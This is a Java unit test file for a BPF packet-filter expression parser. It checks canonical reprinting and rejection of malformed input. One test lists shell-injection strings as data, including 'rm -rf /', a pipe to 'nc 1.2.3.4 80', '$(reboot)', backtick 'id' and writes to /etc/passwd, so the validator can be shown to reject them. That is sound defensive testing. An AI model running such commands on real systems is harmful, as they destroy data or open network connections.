package dev.andromeda.common.net;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.andromeda.common.problem.M31Problem;
import org.junit.jupiter.api.Test;

class BpfExpressionTest {

    @Test
    void acceptsTheGrammarAndReprintsItCanonically() {
        assertThat(BpfExpression.parse("udp", "exp").canonical()).isEqualTo("udp");
        assertThat(BpfExpression.parse("  TCP   and  dst port 443 ", "exp").canonical()).isEqualTo("tcp and dst port 443");
        assertThat(BpfExpression.parse("host 10.0.0.1 && !(udp || icmp)", "exp").canonical()).isEqualTo("host 10.0.0.1 and ! ( udp or icmp )");
        assertThat(BpfExpression.parse("net 192.168.0.0/16 or src net 10.0.0.0", "exp").canonical()).isEqualTo("net 192.168.0.0 / 16 or src net 10.0.0.0");
        assertThat(BpfExpression.parse("tcp src portrange 1-1024", "exp").canonical()).isEqualTo("tcp src portrange 1 - 1024");
        assertThat(BpfExpression.parse("ip6 and host fe80::1", "exp").canonical()).isEqualTo("ip6 and host fe80::1");
        assertThat(BpfExpression.parse("not arp and greater 100 and vlan 7", "exp").canonical()).isEqualTo("not arp and greater 100 and vlan 7");
        assertThat(BpfExpression.parse("", "exp").canonical()).isEmpty();
        assertThat(BpfExpression.parse(null, "exp").canonical()).isEmpty();
    }

    @Test
    void shellMetacharactersAndInjectionsAre400NamingTheField() {
        for (String evil : new String[] {"udp; rm -rf /", "udp && $(reboot)", "tcp | nc 1.2.3.4 80", "`id`", "udp > /tmp/x",
                "udp\nhost 1.1.1.1", "port 53 & sleep 10", "'udp'", "\"udp\"", "udp \\", "-w /tmp/pwn", "-Z root udp",
                "udp -w /etc/passwd", "host ${HOME}", "port 80 # comment", "udp\u0000"}) {
            assertThatThrownBy(() -> BpfExpression.parse(evil, "exp")).as(evil)
                    .isInstanceOfSatisfying(M31Problem.class, p -> {
                        assertThat(p.status()).isEqualTo(400);
                        assertThat(p.field()).isEqualTo("exp");
                    });
        }
    }

    @Test
    void grammarMistakesAre400() {
        for (String bad : new String[] {"host", "host example.com", "port 70000", "port http", "portrange 1", "net 10.0.0.0/129",
                "udp and", "(udp", "udp)", "ether host 00:11:22:33:44:55", "tcp[13] & 2 != 0", "host 999.1.1.1", "and udp",
                "udp udp", "x".repeat(300), "( ".repeat(40) + "udp" + " )".repeat(40)}) {
            assertThatThrownBy(() -> BpfExpression.parse(bad, "exp")).as(bad).isInstanceOf(M31Problem.class);
        }
    }
}
